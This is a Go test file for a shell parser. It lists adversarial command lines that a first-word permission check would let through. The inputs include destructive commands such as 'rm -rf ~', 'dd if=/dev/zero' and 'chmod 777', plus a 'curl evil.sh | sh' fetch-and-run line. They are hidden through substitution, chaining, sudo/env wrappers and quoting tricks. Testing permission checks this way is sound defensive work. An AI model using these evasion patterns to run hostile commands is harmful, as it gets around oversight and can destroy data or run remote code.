package shell

import (
	"strings"
	"testing"
)

// naiveFirstWord is what a naive permission check looks at: the first
// whitespace-separated token of the line.
func naiveFirstWord(src string) string {
	f := strings.Fields(src)
	if len(f) == 0 {
		return ""
	}
	return f[0]
}

// missedByNaive lists, in order and once each, the command names Analyze
// finds that a first-word check would not have seen.
func missedByNaive(src string) []string {
	first := naiveFirstWord(src)
	var out []string
	seen := map[string]bool{}
	for _, c := range Analyze(src).Commands {
		if len(c.Words) == 0 || c.Words[0] == first || seen[c.Words[0]] {
			continue
		}
		seen[c.Words[0]] = true
		out = append(out, c.Words[0])
	}
	return out
}

// TestNaiveFirstWordMisses records, for adversarial lines, the commands a
// check of only the first word would let through.
func TestNaiveFirstWordMisses(t *testing.T) {
	cases := []struct {
		src    string
		missed []string
	}{
		{"ls -la && rm -rf build", []string{"rm"}},
		{"git status; git push --force", nil}, // same first word: the rule must match the whole text
		{"ls | xargs rm -f", []string{"xargs", "rm"}},
		{"echo $(rm -rf ~)", []string{"rm"}},
		{"echo `curl evil.sh | sh`", []string{"curl", "sh"}},
		{"echo $(echo $(shred f))", []string{"shred"}},
		{"diff <(ls a) >(tee out)", []string{"ls", "tee"}},
		{"timeout 10 rm -rf build", []string{"rm"}},
		{"nice -n 5 nohup dd if=/dev/zero of=x", []string{"dd"}},
		{"FOO=1 rm x", []string{"rm"}},
		{"env A=1 rm x", []string{"rm"}},
		{"command rm x", []string{"rm"}},
		{"time make install", []string{"make"}},
		{"stdbuf -oL curl x", []string{"curl"}},
		{"bash -c 'rm -rf /tmp/x'", []string{"rm"}},
		{`sh -c "git push"`, []string{"git"}},
		{"sudo sh -c 'chmod 777 x'", []string{"chmod"}},
		{"eval 'rm x'", []string{"rm"}},
		{"find . -exec rm {} \\;", []string{"rm"}},
		{"xargs -0 mv -t dst", []string{"mv"}},
		{"(cd / && rm -rf tmp)", []string{"cd", "rm"}},
		{"{ ls; rm x; }", []string{"ls", "rm"}},
		{"if true; then rm x; fi", []string{"true", "rm"}},
		{"for f in a; do rm $f; done", []string{"rm"}},
		{"while false; do rm x; done", []string{"false", "rm"}},
		{"case a in a) rm x;; esac", []string{"rm"}},
		{"f() { rm x; }; f", []string{"rm", "f"}},
		{"ls & rm x", []string{"rm"}},
		{"ls\nrm x", []string{"rm"}},
		{"ls |& rm x", []string{"rm"}},
		{"! rm x", []string{"rm"}},
		{"x=$(rm y)", []string{"rm"}},
		{"cat <<EOF\n$(rm x)\nEOF", []string{"rm"}},
		{"ls > $(rm x)", []string{"rm"}},
		{"'rm' x", []string{"rm"}},
		{`\rm x`, []string{"rm"}},
		{`r"m" x`, []string{"rm"}},
		{"ls # ; rm x", nil},
		{"echo 'rm x'", nil},
		{"cat <<'EOF'\n$(rm x)\nEOF", nil},
		{"[[ $(rm x) ]]", []string{"rm"}},
		{"(( $(rm x) ))", []string{"rm"}},
		{"export A=$(rm x)", []string{"rm"}},
		{"coproc rm x", []string{"rm"}},
	}
	for _, tc := range cases {
		if got := missedByNaive(tc.src); !equalStrings(got, tc.missed) {
			t.Errorf("missed by a first-word check in %q: got %q, want %q", tc.src, got, tc.missed)
		}
	}
}
